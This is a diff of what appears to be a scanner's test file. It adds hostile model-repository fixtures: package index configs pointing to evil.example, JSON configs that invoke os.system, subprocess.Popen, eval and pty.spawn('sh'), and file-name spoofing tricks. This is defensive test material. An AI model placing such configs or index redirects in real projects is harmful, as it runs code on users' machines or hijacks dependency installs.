@@ -120,6 +120,17 @@ HOSTILE: list[tuple[str, Files]] = [
     ("keras", {"task.json": {"module": "os", "class_name": "system", "config": {"x": 1}, "registered_name": None}}),
     ("keras", {"preprocessor.json": {"a": {"b": {"module": "subprocess", "class_name": "Popen", "config": {}}}}}),
     ("keras", {"task.json": [{"module": "builtins", "class_name": "function", "config": "eval"}]}),
+    ("requirements", {"pyproject.toml": b'[[tool.uv.index]]\nurl = "https://evil.example/simple"\n'}),
+    ("requirements", {"Pipfile": b'[[source]]\nurl = "https://evil.example/simple"\n'}),
+    ("requirements", {"env/environment.yml": b"dependencies:\n- pip:\n  - --index-url https://evil.example/simple\n"}),
+    ("names", {"custom_generate/generate.py": b"def generate(model):\n    pass\n"}),
+    ("names", {"config.json::$DATA": {**VIT, "hidden_size": 16}}),
+    # functions under any key, expressions
+    ("named", {"plans.json": {"network": {"arch_class_name": "subprocess.Popen", "arch_kwargs": {"args": "id"}}}}),
+    ("named", {"conf.json": {"a": [{"fn": "builtins:eval"}]}}),
+    ("named", {"configs/inference.json": {"imports": ["$import os"], "run": ["$os.system('id')"]}}),
+    ("named", {"configs/train.json": {"x": "$@net if True else __import__('pty').spawn('sh')"}}),
+    ("diffusers", {"modular_model_index.json": {"unet": [None, None, {"type_hint": ["evil", "Net"]}]}}),
     # names
     ("names", {"Config.json": {**VIT, "hidden_size": 16}}),
     ("names", {"config.json ": {**VIT, "hidden_size": 16}}),
